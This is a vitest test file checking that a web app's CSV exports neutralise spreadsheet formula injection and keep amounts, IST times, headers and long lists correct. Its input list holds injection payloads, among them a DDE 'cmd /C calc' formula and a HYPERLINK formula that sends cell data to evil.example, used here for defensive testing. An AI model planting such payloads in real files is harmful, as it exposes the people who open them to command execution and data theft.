import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { dayInIndia } from '../../src/platform/dates.ts'
import type { Answer } from '../support/visitor.ts'
import { type Way, waysIn } from './every-route.ts'
import { buildFixture, type WebFixture } from './fixture.ts'
import { unlock, xssPayload } from './xss-payloads.ts'

/** What a spreadsheet would take for a formula, or a careless reader of files for the end of a cell. */
const nasty = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"quoted"',
  '"=1+1"',
  'a,b;c',
  'line\nand line\r\nand line',
  '",=1+1,"',
  `'=1+1`,
  'अशा राव, ₹ 100',
  '  spaces  ',
  '\\"',
  '1e9',
  '007',
]

let fixture: WebFixture
beforeAll(async () => {
  fixture = await buildFixture()
  await unlock(fixture.app.sql)
})
afterAll(() => fixture.close())

const exportsIn = () => waysIn(fixture).filter(({ route }) => route.endsWith('.csv'))
const fetchFrom = ({ may, address }: Way, query = '') =>
  (may === 'panel' || may === 'money' ? fixture.at.money : fixture.at.owner).get(address + query)

/** The cells of a file as a spreadsheet reads them. */
function cellsOf({ body }: Answer): string[][] {
  return parse(body, { bom: true, relaxColumnCount: true })
}

const isNumber = (title: string) => title.endsWith('(₹)')
const isTime = (title: string) => title.endsWith('(IST)')
const formula = /^[=+\-@\t\r\n]/
const number = /^-?\d+(\.\d{1,2})?$/
const time = /^\d\d-\d\d-\d{4} \d\d:\d\d:\d\d$/

describe('an export', () => {
  test('keeps every text as it is and lets none be a formula; amounts are numbers, times Indian', async () => {
    const wrong: string[] = []
    const found = new Map<string, number>()
    let cells = 0
    for (const text of nasty) {
      await xssPayload(fixture.app.sql, text)
      for (const way of exportsIn().filter(({ may }) => may !== 'signed-in')) {
        const [titles, ...rows] = cellsOf(await fetchFrom(way))
        if (rows.length === 0) wrong.push(`${way.address} is empty`)
        for (const row of rows) {
          if (row.length !== titles!.length)
            wrong.push(`${way.address}: ${row.length} cells for ${titles!.length} titles`)
          for (const [index, cell] of row.entries()) {
            cells++
            const title = titles![index]!
            if (cell !== '' && isNumber(title) && !number.test(cell)) wrong.push(`${way.address}, ${title}: ${cell}`)
            if (cell !== '' && isTime(title) && !time.test(cell)) wrong.push(`${way.address}, ${title}: ${cell}`)
            if (formula.test(cell) && !isNumber(title))
              wrong.push(`${way.address}, ${title}: ${JSON.stringify(cell)} runs`)
            if (cell === (formula.test(text) ? `'${text}` : text))
              found.set(way.address, (found.get(way.address) ?? 0) + 1)
          }
        }
      }
    }
    console.log(`${nasty.length} texts in ${found.size} exports, ${cells} cells`)
    console.log([...found].map(([address, times]) => `${address}: ${times}`).join('\n'))
    expect([...new Set(wrong)]).toEqual([])
    // Each list shows words that people wrote, and shows them unharmed.
    for (const { address, may } of exportsIn())
      if (may !== 'signed-in') expect([address, (found.get(address) ?? 0) >= nasty.length]).toEqual([address, true])
  }, 120_000)

  test('of a person’s own data does so section by section', async () => {
    const wrong: string[] = []
    let found = 0
    for (const text of nasty) {
      await xssPayload(fixture.app.sql, text)
      for (const way of exportsIn().filter(({ may }) => may === 'signed-in'))
        for (const cell of cellsOf(await fetchFrom(way)).flat()) {
          if (formula.test(cell) && !number.test(cell)) wrong.push(`${way.address}: ${JSON.stringify(cell)} runs`)
          if (cell === (formula.test(text) ? `'${text}` : text)) found++
        }
    }
    expect([...new Set(wrong)]).toEqual([])
    expect(found).toBeGreaterThan(nasty.length * 3)
  }, 60_000)

  test('is a file to be kept: UTF-8 with its mark, CRLF, named by the Indian day, for nobody else to cache', async () => {
    await xssPayload(fixture.app.sql, 'plain')
    const today = dayInIndia(new Date())
    for (const way of exportsIn()) {
      const answer = await fetchFrom(way)
      const bytes = Buffer.from(await (await fetchBytes(way)).arrayBuffer())
      expect([way.address, answer.status, bytes.subarray(0, 3).toString('hex')]).toEqual([way.address, 200, 'efbbbf'])
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      // A table of prices is of the day of its prices, vouchers are of a month.
      const day = way.address.startsWith('/dashboard')
        ? String.raw`\d{4}-\d\d-\d\d(-weekly-[A-Z]+)?`
        : way.address.startsWith('/admin/receipts/tally')
          ? today.slice(0, 7)
          : today
      const named = new RegExp(`^attachment; filename="[a-z-]+-${day}\\.csv"$`)
      expect(answer.headers.get('content-disposition')).toMatch(named)
      expect(answer.headers.get('cache-control')).toBe('no-store')
      expect([way.address, bytes.toString().replaceAll('\r\n', '').includes('\n')]).toEqual([way.address, false])
    }
  })

  test('of a very long list comes in pieces, whole, and without a row twice', async () => {
    const { sql } = fixture.app
    await sql`
      insert into orders (id, user_id, plan_key, amount_paise, status, expires_at, created_at, closed_at)
      select 'ds_long_' || n, ${fixture.ids.owner}, 'monthly_v1', 49900, 'expired', now(), timestamptz '2021-05-05' + make_interval(secs => n / 100), now()
      from generate_series(1, 20000) n`
    await sql`
      insert into audit (actor, action, user_id, details)
      select 'command', 'long.list', ${fixture.ids.owner}, '{}' from generate_series(1, 20000)`
    for (const [path, column] of [
      ['/admin/orders.csv?from=2021-05-05&to=2021-05-06', 1],
      ['/admin/audit.csv?action=long.list', 0],
    ] as const) {
      const answer = await fixture.at.money.get(path)
      expect(answer.headers.get('content-length')).toBeNull()
      const rows = cellsOf(answer).slice(1)
      expect([path, rows.length, new Set(rows.map((row) => row[column])).size]).toEqual([path, 20_000, 20_000])
    }
  }, 60_000)
})

/** The same answer as bytes: text loses the mark at its beginning. */
function fetchBytes({ may, address }: Way): Promise<Response> {
  const { app, cookies } = may === 'panel' || may === 'money' ? fixture.at.money : fixture.at.owner
  return fetch(app.url + address, {
    headers: { cookie: [...cookies].map(([name, value]) => `${name}=${value}`).join('; ') },
  })
}
